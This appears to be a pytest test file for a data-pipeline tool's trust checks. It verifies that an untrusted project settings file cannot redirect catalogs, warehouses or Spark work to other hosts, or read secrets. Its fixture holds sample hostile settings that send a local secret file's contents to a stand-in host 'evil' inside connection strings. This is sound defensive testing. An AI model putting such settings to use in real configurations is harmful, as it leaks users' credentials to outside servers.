"""What the settings file of a stranger's project may decide, and who may let it decide more."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any, cast

import pytest

from anabranch import trust
from anabranch.cli.main import run
from anabranch.engine.clusters import at_home
from anabranch.engine.session import Spark
from anabranch.errors import InvalidValue, Refused
from anabranch.project.project import load as load_project
from anabranch.settings import TABLE, Settings
from anabranch.values import HOSTS

NEEDS_TRUST = {
    "a server's catalog": 'catalog = "postgresql://x@evil/db"\nwarehouse = "wh"',
    "a secret sent to a server": """catalog = "postgresql://x:FILE('{secret}')@evil/db"
warehouse = "wh" """,
    "a secret in a path": """home = "FILE('{secret}')" """,
    "a home elsewhere": 'home = "{elsewhere}"',
    "a home above": 'home = "../other"',
    "a home behind a link": 'home = "link/home"',
    "a catalog elsewhere": 'catalog = "sqlite:///{elsewhere}/catalog.db"',
    "a warehouse elsewhere": 'warehouse = "{elsewhere}"',
    "a warehouse in a bucket": 'warehouse = "s3://evil/rows"',
    "a warehouse by URL": 'warehouse = "file:{elsewhere}"',
    "another machine": '[spark]\nmaster = "spark://evil:7077"',
    "another master": '[spark]\nmaster = "k8s://https://evil"',
    "a Connect server": """[spark]\nremote = "sc://evil/;token=FILE('{secret}')" """,
    "a plain Connect server": '[spark]\nremote = "sc://evil"',
    "no durability": "fsync = false",
    "a secret in a name": """[spark.conf]\n"spark.app.name" = "FILE('{secret}')" """,
    "a secret of the environment": """[spark.conf]\n"spark.app.name" = "x-ENV('HOME')" """,
    **{
        name: f'[spark.conf]\n"{name}" = "x"'
        for name in (
            "spark.sql.catalogImplementation",
            "spark.sql.sources.commitProtocolClass",
            "spark.hadoop.fs.defaultFS",
            "spark.hadoop.fs.s3a.endpoint",
            "spark.hadoop.hive.exec.post.hooks",
            "spark.eventLog.dir",
            "spark.local.dir",
            "spark.sql.warehouse.dir",
            "spark.driver.host",
            "spark.redaction.regex",
            "spark.something.new",
        )
    },
}  # fmt: skip
FREE = """
home = "data/here"
parallelism = 2
allow_circular = true
snapshot_retention = "1h"
[spark]
master = "local[4]"
[spark.conf]
"spark.driver.memory" = "4g"
"spark.sql.shuffle.partitions" = 8
"spark.sql.adaptive.coalescePartitions.enabled" = false
"spark.dynamicAllocation.maxExecutors" = 4
"""


@pytest.fixture(autouse=True)
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A clone of somebody's project, in which somebody else works."""
    for setting in TABLE.values():
        monkeypatch.delenv(setting.variable, raising=False)
    monkeypatch.delenv("ANABRANCH_TRUST", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    folder = tmp_path / "clone"
    (folder / "models").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (folder / "link").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "secret").write_text("the private key")
    monkeypatch.chdir(folder)
    return folder


def write(clone: Path, text: str) -> Path:
    file = clone / "anabranch.toml"
    above = clone.parent
    text = text.replace("{secret}", str(above / "secret"))
    file.write_text(text.replace("{elsewhere}", str(above / "elsewhere")))
    return file


@pytest.mark.parametrize("profile", [False, True])
@pytest.mark.parametrize("what", NEEDS_TRUST)
def test_a_found_file_redirects_nothing_and_reads_nothing(
    clone: Path, monkeypatch: pytest.MonkeyPatch, what: str, profile: bool
) -> None:
    text = NEEDS_TRUST[what].replace("[spark", "[profiles.dev.spark" if profile else "[spark")
    file = write(clone, "[profiles.dev]\n" + text if profile else text)
    if not any(f"{kind}('" in text for kind in ("ENV", "FILE")):
        if any(f"{place} =" in text for place in ("home", "catalog")):
            assert Settings.load(), "a file says where its own catalog is"
            return
        if "warehouse" not in text:
            assert Settings.load(), "and everything about it"
        monkeypatch.setenv("ANABRANCH_CATALOG", "postgresql://mine/lake")
        monkeypatch.setenv("ANABRANCH_WAREHOUSE", str(clone.parent / "elsewhere"))
    if "warehouse =" in text and "catalog =" not in text:
        return  # the variable overrules it
    for load in (Settings.load, lambda: load_project(clone)):
        with pytest.raises(Refused, match="is not trusted to decide") as refused:
            load()
        assert "private key" not in str(refused.value)
        assert "anabranch trust" in str(refused.value.hint)
    monkeypatch.setenv("ANABRANCH_TRUST", str(clone))
    assert Settings.load()
    monkeypatch.delenv("ANABRANCH_TRUST")
    assert Settings.load(file), "who names it in a program trusts it"


def test_a_found_file_may_tune(clone: Path) -> None:
    write(clone, FREE)
    settings = Settings.load()
    assert settings.home == f"{clone}/data/here"
    assert settings.spark_conf["spark.driver.memory"] == "4g"


def test_a_file_forgets_nothing_of_a_catalog_that_is_not_its_own(
    clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(clone, 'orphan_grace = "0s"\nsnapshot_retention = "0s"')
    assert Settings.load().orphan_grace == 0
    monkeypatch.setenv("ANABRANCH_HOME", str(clone.parent / "mine"))
    with pytest.raises(Refused, match="keeps less than the default in a catalog elsewhere"):
        Settings.load()
    write(clone, 'orphan_grace = "9d"\nsnapshot_retention = "30d"')
    assert Settings.load().orphan_grace == 9 * 86400


def test_what_is_overruled_needs_no_trust(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(clone, '[spark]\nmaster = "spark://evil:7077"')
    with pytest.raises(Refused, match="master sends work"):
        Settings.load(clone.parent / "mine")
    monkeypatch.setenv("ANABRANCH_SPARK_MASTER", "local[1]")
    assert Settings.load(clone.parent / "mine").spark_master == "local[1]"


def test_every_setting_has_a_rule() -> None:
    """A new one must say what a file may do with it, or be the operator's."""
    assert {*trust.RULES} == {key for key, setting in TABLE.items() if not setting.operator}


def test_trust_is_for_a_file_as_it_is(
    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    file = write(clone, NEEDS_TRUST["a plain Connect server"])
    monkeypatch.setenv("ANABRANCH_HOME", str(clone.parent / "mine"))
    assert run(["trust", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["reasons"] == [
        "spark.remote sends work to another machine"
    ]
    assert Settings.load().spark_remote == "sc://evil"
    noted = clone.parent / "config" / "anabranch" / "trusted.json"
    assert (noted.stat().st_mode & 0o777, noted.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    file.write_text(file.read_text().replace("evil", "worse"))
    with pytest.raises(Refused, match="is not trusted"):
        Settings.load()
    assert run(["trust", str(file)]) == 0
    assert Settings.load()
    assert run(["trust", "--revoke"]) == 0
    assert "no longer trusted" in capsys.readouterr().out
    with pytest.raises(Refused, match="is not trusted"):
        Settings.load()
    copy = clone.parent / "copy"
    shutil.copytree(clone, copy, symlinks=True)
    assert run(["trust", str(file)]) == 0
    assert not trust.is_trusted(copy / "anabranch.toml")
    assert run(["trust", "nowhere.toml"]) == 1


@pytest.mark.parametrize("damage", ["", "[]", "{", '{"a": 1}', "\x00"])
def test_a_damaged_note_trusts_nobody(clone: Path, damage: str) -> None:
    file = write(clone, NEEDS_TRUST["a secret in a path"])
    trust.trust(file)
    (clone.parent / "config" / "anabranch" / "trusted.json").write_text(damage)
    with pytest.raises(Refused, match="is not trusted"):
        Settings.load()


@pytest.mark.parametrize("named", ["", ".", "clone", "~nobody-here/x", "{}2", "/nowhere:"])
def test_a_variable_that_names_another_folder_trusts_nothing(
    clone: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    write(clone, NEEDS_TRUST["a secret in a path"])
    monkeypatch.setenv("ANABRANCH_TRUST", named.format(clone))
    with pytest.raises(Refused, match="is not trusted"):
        Settings.load()


def test_a_file_of_an_administrator_is_trusted(
    clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = write(clone, NEEDS_TRUST["no durability"])
    if os.geteuid() == 0:
        monkeypatch.setattr("os.geteuid", lambda: 4242)
        assert not trust.is_trusted(file), "it can be written by this user"
        monkeypatch.setattr("os.access", lambda path, mode: False)
        assert trust.is_trusted(file)


def test_init_trusts_what_it_writes(
    clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    assert run(["--home", str(tmp_path / "mine"), "init", "--bare", "new"]) == 0
    monkeypatch.chdir("new")
    assert Settings.load().home == str(tmp_path / "mine")


# -- clusters: SQL that names servers ------------------------------------------------------------


class Remote:
    """As much of a session on a Connect server as is asked."""

    is_remote = True


@pytest.mark.parametrize(
    "address",
    [
        "sc://evil/;token=ENV('HOME')",
        "sc://evil",
        "sc://here.evil",
        "sc://here:1",
        "sc://here@evil",
        "sc://ENV('HOME')",
        "sc://h:ENV('HOME')/",
        "sc://",
        "sc:///",
    ],
)
def test_a_cluster_sends_nothing_where_the_operator_does_not(
    monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setattr("anabranch.engine.session.is_remote", lambda session: True)
    spark = Spark({"spark.remote": "sc://here", "cluster_hosts": HOSTS.read("there;other:1")})
    spark._session = cast("Any", Remote())
    for settings in ({}, {"spark.x": "FILE('/nowhere')"}):
        with (
            pytest.raises(Refused, match="no Spark Connect server that work may be sent to") as no,
            at_home(spark, None, address, settings),
        ):
            pass
        assert os.environ["HOME"] not in str(no.value)
        assert not spark._others


@pytest.mark.parametrize(
    "address",
    [
        "sc://here",
        "sc://localhost:1",
        "sc://HERE:15002/;token=x",
        "sc://there:7",
        "sc://other:1/;a=b",
    ],
)
def test_a_cluster_reaches_the_servers_that_the_operator_names(
    monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setattr("anabranch.engine.session.is_remote", lambda session: True)
    spark = Spark({"spark.remote": "sc://here", "cluster_hosts": HOSTS.read("there;other:1")})
    spark._session = cast("Any", Remote())
    with at_home(spark, None, address, {}) as other:
        assert other is not spark


@pytest.mark.parametrize("hosts", ["a b", "a/b", "sc://a", "a:b", "me@a"])
def test_hosts_are_hosts(hosts: str) -> None:
    with pytest.raises(InvalidValue, match="neither host nor host:port"):
        HOSTS.read(hosts)
